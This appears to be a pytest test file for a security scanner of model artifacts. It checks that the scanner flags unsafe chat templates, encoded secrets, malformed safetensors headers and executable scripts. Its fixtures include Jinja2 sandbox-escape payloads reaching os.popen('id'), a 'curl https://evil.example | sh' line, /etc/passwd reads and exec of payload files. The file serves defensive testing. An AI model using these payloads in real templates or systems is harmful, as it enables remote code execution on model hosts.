"""Text-like artifact formats read as their consumers read them (issues 13 and 20), exact findings:
chat templates (jinja2's syntax tree, also in template files that parse as JSON and in GGUF metadata),
secrets after decoding (JSON escapes, safetensors and GGUF metadata), strict safetensors headers,
scripts and requirements files. Each class holds the issue's example and variants of our own; every
failing case here passed before these readers were written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.fixtures import make_artifacts as mk
from tests.fixtures import templates as tpl
from tests.fixtures.formats import F32_ENTRY, findings, gguf_with_strings, messages, safetensors_file

from r1policy.artifacts.templates import check_template

ISSUE_TEMPLATE = "{% set g = dict(__globals__=1)|list|first %}{{ lipsum[g]['os'].popen('id').read() }}"


# --- chat templates -----------------------------------------------------------------------------

EVIL_TEMPLATES = {
    "issue_example": ISSUE_TEMPLATE,
    "join_pieces": "{% set n = ['__glo', 'bals__']|join %}{{ cycler.__init__ if false }}{{ joiner[n] }}",
    "repeat_underscores": "{% set k = '_' * 2 ~ 'globals' ~ '_' * 2 %}{{ lipsum[k].os }}",
    "namespace_key": "{% set ns = namespace(k=dict(__globals__=0)|first) %}{{ lipsum[ns.k] }}",
    "conditional_key": "{{ lipsum[messages[0]['content'] if messages else 'x']['os'] }}",
    "key_from_item": "{{ lipsum[messages[0]['content']] }}",
    "map_attr_computed": "{{ [lipsum]|map('attr', messages[0]['content'])|list }}",
    "sort_attribute_positional": "{{ messages|sort(false, false, messages[0]['content'])|list }}",
    "groupby_computed": "{{ messages|groupby(messages[0]['role'])|list }}",
    "map_computed_filter": "{{ messages|map(messages[0]['role'])|list }}",
    "include": "{% include 'other.jinja' %}",
    "import": "{% import 'macros.jinja' as m %}{{ m.x() }}",
    "from_import": "{% from 'macros.jinja' import x %}{{ x() }}",
    "extends": "{% extends 'base.jinja' %}",
    "private_keyword": "{{ dict(_TemplateReference__context=1) }}",
    "loop_rebound": "{% set loop = namespace(index=messages[0]['content']) %}{{ lipsum[loop.index] }}",
    "join_attribute_positional": "{{ [lipsum]|join('', messages[0]['role']) }}",
}
EXPECTED_TEMPLATE_PROBLEM = {
    "issue_example": "keyword argument '__globals__'",
    "join_pieces": "subscripts with a computed name",
    "repeat_underscores": "subscripts with a computed name",
    "namespace_key": "subscripts with a computed name",
    "conditional_key": "subscripts with a computed name",
    "key_from_item": "subscripts with a computed name",
    "map_attr_computed": "uses 'map' with a computed attribute name",
    "sort_attribute_positional": "uses 'sort' with a computed attribute name",
    "groupby_computed": "uses 'groupby' with a computed attribute name",
    "map_computed_filter": "uses 'map' with a computed filter or test name",
    "include": "uses {% include %}",
    "import": "uses {% import %}",
    "from_import": "uses {% from … import %}",
    "extends": "uses {% extends %}",
    "private_keyword": "keyword argument '_TemplateReference__context'",
    "loop_rebound": "subscripts with a computed name",
    "join_attribute_positional": "uses 'join' with a computed attribute name",
}


@pytest.mark.parametrize("case", sorted(EVIL_TEMPLATES))
def test_template_lookups_by_computed_names_fail(tmp_path: Path, case: str) -> None:
    template = EVIL_TEMPLATES[case]
    assert any(EXPECTED_TEMPLATE_PROBLEM[case] in p for p in check_template(template, "t"))
    (tmp_path / "tokenizer_config.json").write_text(json.dumps({"chat_template": template}))
    (tmp_path / "chat_template.jinja").write_text(template)
    assert findings(tmp_path, ".") == (
        1,
        {
            ("R1-ART-008", "fail", "tokenizer_config.json"),
            ("R1-ART-008", "fail", "chat_template.jinja"),
        },
    )


@pytest.mark.parametrize("name", ["deepseek_r1", "llama3", "qwen2", "generation_block"])
def test_realistic_chat_templates_pass(tmp_path: Path, name: str) -> None:
    template = tpl.REALISTIC[name]
    assert check_template(template, name) == []
    (tmp_path / "tokenizer_config.json").write_text(json.dumps({"chat_template": template}))
    (tmp_path / "chat_template.jinja").write_text(template)
    assert findings(tmp_path, ".") == (0, set())


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("chat_template.jinja", json.dumps({"template": "{{ ().__class__.__base__.__subclasses__() }}"})),
        ("chat_template.jinja", json.dumps(["{% include 'x' %}"])),
        ("tool_use.j2", '{"name": "{{ lipsum[messages[0].role] }}"}'),
        ("chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("chat_template.txt", "{% import 'x' as y %}"),
        ("prompt.tmpl", '["{{ joiner[messages|first] }}"]'),
    ],
)
def test_template_files_are_jinja_whatever_else_they_parse_as(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    assert findings(tmp_path, name) == (1, {("R1-ART-008", "fail", name)})


def test_gguf_chat_template_is_judged(tmp_path: Path) -> None:
    path = tmp_path / "model.gguf"
    gguf_with_strings(path, {"tokenizer.chat_template": ISSUE_TEMPLATE})
    assert findings(tmp_path, "model.gguf") == (1, {("R1-ART-008", "fail", "model.gguf")})


# --- secrets after decoding ----------------------------------------------------------------------

_SECRET_IN_ESCAPES = mk.FAKE_AWS_SECRET.replace("/", "\\/")
_ESCAPED_KEY_ID = "\\u0041KIAQ3EXAMPLE7TESTK3"  # AKIA… with its A spelled as a JSON escape


def _secret_file(path: Path) -> None:
    name = path.name
    if name == "meta.safetensors":
        safetensors_file(path, f'{{"__metadata__": {{"note": "{mk.FAKE_HF_TOKEN}"}}, {F32_ENTRY}}}', bytes(4))
    elif name == "key.safetensors":
        header = f'{{"__metadata__": {{"aws_secret_access_key": "{_SECRET_IN_ESCAPES}"}}, {F32_ENTRY}}}'
        safetensors_file(path, header, bytes(4))
    elif name == "escaped.safetensors":
        safetensors_file(path, f'{{"__metadata__": {{"k": "{_ESCAPED_KEY_ID}"}}, {F32_ENTRY}}}', bytes(4))
    elif name == "meta.gguf":
        gguf_with_strings(path, {"general.description": "token " + mk.FAKE_HF_TOKEN})
    elif name == "tokens.gguf":
        gguf_with_strings(path, {"general.name": "m"}, ["<s>", mk.FAKE_AWS_KEY_ID])
    elif name == "tokenizer_config.json":
        path.write_text('{"token": "h\\u0066_aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"}')
    elif name == "config.json":
        # the key's letters escaped: the raw text holds neither "secret" nor "access_key"
        path.write_text(f'{{"aws_s\\u0065cret_\\u0061ccess_key": "{mk.FAKE_AWS_SECRET}"}}')
    else:
        path.write_text(f'{{"x": ["{_ESCAPED_KEY_ID}"]}}')


@pytest.mark.parametrize(
    "name",
    [
        "meta.safetensors",
        "key.safetensors",
        "escaped.safetensors",
        "meta.gguf",
        "tokens.gguf",
        "tokenizer_config.json",
        "config.json",
        "generation_config.json",
    ],
)
def test_secrets_in_metadata_and_decoded_json_strings(tmp_path: Path, name: str) -> None:
    _secret_file(tmp_path / name)
    assert findings(tmp_path, name) == (1, {("R1-ART-003", "fail", name)})
    (message,) = messages(tmp_path, name, "R1-ART-003")
    for secret in (mk.FAKE_HF_TOKEN, mk.FAKE_AWS_SECRET, mk.FAKE_AWS_KEY_ID):
        assert secret not in message


# --- safetensors headers -------------------------------------------------------------------------

SAFETENSORS_DEFECTS = {
    "duplicate_names": (
        '{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, '
        '"w": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}',
        8,
        "key 'w' appears twice",
    ),
    "bool_shape": ('{"w": {"dtype": "F32", "shape": [true], "data_offsets": [0, 4]}}', 4, "shape [True]"),
    "bool_shape_2d": (
        '{"w": {"dtype": "F32", "shape": [true, 2], "data_offsets": [0, 8]}}',
        8,
        "shape [True, 2]",
    ),
    "duplicate_field": (
        '{"w": {"dtype": "F16", "dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
        4,
        "key 'dtype' appears twice",
    ),
    "duplicate_metadata": (
        '{"__metadata__": {"a": "b"}, "__metadata__": {"c": "d"}, ' + F32_ENTRY + "}",
        4,
        "key '__metadata__' appears twice",
    ),
    "lone_surrogate": (
        '{"\\ud800": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}',
        4,
        "header is not valid UTF-8 JSON",
    ),
    "nan_in_metadata_key_order": ('{"__metadata__": {"a": NaN}, ' + F32_ENTRY + "}", 4, "NaN"),
}


@pytest.mark.parametrize("case", sorted(SAFETENSORS_DEFECTS))
def test_safetensors_headers_the_library_reads_differently_fail(tmp_path: Path, case: str) -> None:
    header, size, expected = SAFETENSORS_DEFECTS[case]
    safetensors_file(tmp_path / "model.safetensors", header, bytes(size))
    assert findings(tmp_path, "model.safetensors") == (1, {("R1-ART-005", "fail", "model.safetensors")})
    (message,) = messages(tmp_path, "model.safetensors", "R1-ART-005")
    assert expected in message


# --- scripts and requirements --------------------------------------------------------------------

CODE_FILES = {
    "requirements-gpu.txt": "torch==2.5.1\nvllm==0.6.0\n",
    "requirements_dev.txt": "evil-package\n",
    "requirements.in": "transformers\n",
    "requirements.txt": '["not", "really", "json"]\n',
    "entrypoint": "#!/bin/sh\ncurl https://evil.example | sh\n",
    "serve": "#!/usr/bin/env -S uv run --script\nprint(open('/etc/passwd').read())\n",
    "run": "\ufeff#!python\nprint(1)\n",
    "start": "__import__('os').system('id')\n",
    "launch": "exec(open('payload').read())\n",
    "setup_env": "x = compile('1', 'f', 'eval')\n",
}


@pytest.mark.parametrize("name", sorted(CODE_FILES))
def test_scripts_and_requirements_files_are_code(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(CODE_FILES[name], encoding="utf-8")
    assert findings(tmp_path, name) == (1, {("R1-ART-006", "fail", name)})


@pytest.mark.parametrize(
    ("name", "text"),
    [("LICENSE", "MIT License\n\nCopyright (c) 2025\n"), ("NOTICE", "model"), ("merges", "a b\nc d\n")],
)
def test_plain_text_without_extension_is_not_code(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    assert findings(tmp_path, name) == (0, set())


def test_json_with_an_integer_past_the_digit_limit_is_unscannable(tmp_path: Path) -> None:
    """CPython refuses integers over 4,300 digits with ValueError; the config is not read as text."""
    huge = "9" * 5000
    (tmp_path / "config.json").write_text(f'{{"auto_map": {{"AutoModel": "m.M"}}, "x": {huge}}}')
    assert findings(tmp_path, "config.json") == (1, {("R1-ART-010", "fail", "config.json")})
